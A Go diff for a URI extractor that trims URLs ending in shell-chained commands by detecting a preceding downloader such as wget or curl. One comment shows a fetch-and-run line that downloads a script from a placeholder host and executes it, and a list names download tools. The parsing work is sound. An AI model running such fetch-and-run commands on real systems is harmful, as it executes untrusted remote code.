@@ -1,0 +1,57 @@
+package extract
+
+import "bytes"
+
+// downloaders are the commands whose arguments are URIs that a shell is to download.
+var downloaders = []string{"wget", "curl", "tftp", "ftpget", "fetch", "lwp-download"}
+
+// commandFollows reports whether another command of a shell begins behind the n bytes of
+// ";" or "&&" at t[i], and the URI, not in quotes, is an argument of one that downloads it:
+// "wget http://a.example/b.sh;sh b.sh". Such a command is a word, or a program in the
+// directory, behind which white space or the closing quotation mark stands.
+func (r *reader) commandFollows(n int) bool {
+	if r.angle || r.part != inPath || r.host == 0 || r.c.open.kind == Quote {
+		return false
+	}
+	t := r.t[:min(r.end, r.i+maxLook)]
+	end := commandEnd(t, r.i+n)
+	switch at(t, end) {
+	case ' ', '\t', '"', '`':
+	case '\'':
+		if isAlnum(at(t, end+1)) {
+			return false
+		}
+	default:
+		return false
+	}
+	return end > r.i+n && r.loads.ask(r.f.downloads)
+}
+
+// commandEnd returns where the command at t[i] ends, "sh" or "./b.sh"; i if there is none.
+func commandEnd(t []byte, i int) int {
+	switch {
+	case bytes.HasPrefix(t[min(i, len(t)):], []byte("./")):
+		return skip(t, i, alnum, "_-./")
+	case isAlpha(at(t, i)):
+		return skip(t, i, alnum, "")
+	}
+	return i
+}
+
+// downloads reports whether one of downloaders stands before the candidate on its line.
+func (f *finder) downloads() bool {
+	line := f.buf[f.lineStart(f.cand.lead):f.cand.lead]
+	for _, name := range downloaders {
+		for k := 0; k < len(line); k++ {
+			n := bytes.Index(line[k:], []byte(name))
+			if n < 0 {
+				break
+			}
+			k += n
+			if !isOfItemName(at(line, k-1)) && isWhite(at(line, k+len(name))) {
+				return true
+			}
+		}
+	}
+	return false
+}
